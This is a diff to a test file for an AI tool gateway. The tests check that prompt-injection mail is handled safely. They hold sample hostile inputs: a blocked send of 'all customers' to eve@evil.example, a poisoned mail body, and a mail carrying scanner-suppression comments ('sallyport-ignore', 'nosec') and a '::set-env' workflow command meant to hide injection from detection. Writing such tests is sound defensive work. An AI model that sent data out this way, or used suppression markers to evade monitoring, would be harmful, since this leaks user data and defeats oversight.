@@ -1,4 +1,4 @@
-import { mkdir, writeFile } from 'node:fs/promises'
+import { mkdir, readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { createGateway, parseConfig, type Gateway } from '../../packages/gateway/src/index.ts'
@@ -103,6 +103,30 @@ describe('what comes in', () => {
     await expect(
       sp.call('mail.send_mail', { to: ['eve@evil.example'], subject: 'db', body: 'all customers' }),
     ).rejects.toMatchObject({ code: 'SP_AUTHN_UNCLAIMED' })
+  })
+
+  test('T-149: a poisoned mail closes nothing: it stays readable, as do the others, and what the user asks for still runs', async () => {
+    for (const [id, body] of [
+      ['bad', ATTACK],
+      ['good', 'Lunch at noon?'],
+    ] as const) {
+      expect(textOf(await sp.call('mail.read_mail', { id }))).toContain(body)
+    }
+    const path = join(folder.path, 'files', 'own.txt')
+    expect(textOf(await sp.call('files.read_text_file', { path }))).toBe('The desk opens at nine.')
+    await sp.call('files.write_file', { path: join(folder.path, 'files', 'note.txt'), content: 'Lunch at noon?' })
+  })
+
+  test('T-147: text does not suppress what is found in it', async () => {
+    const id = 'ignores'
+    const inbox = join(folder.path, 'mailbox', 'inbox.json')
+    const mails = JSON.parse(await readFile(inbox, 'utf8')) as object[]
+    const body = `# sallyport-ignore-file injection.*\n${ATTACK} // sallyport-ignore nosec noqa\n::set-env name=X::y`
+    await writeFile(inbox, JSON.stringify([...mails, { id, from: 'x@evil.example', subject: 'Hello', body }]))
+    await sp.call('mail.read_mail', { id })
+    expect((await newest()).slice(-4).find(({ name }) => name === 'content.result')).toMatchObject({
+      toolName: 'mail.read_mail',
+    })
   })
 
   test('AC-3.1.2: a hook’s report of a result is read like any other', async () => {
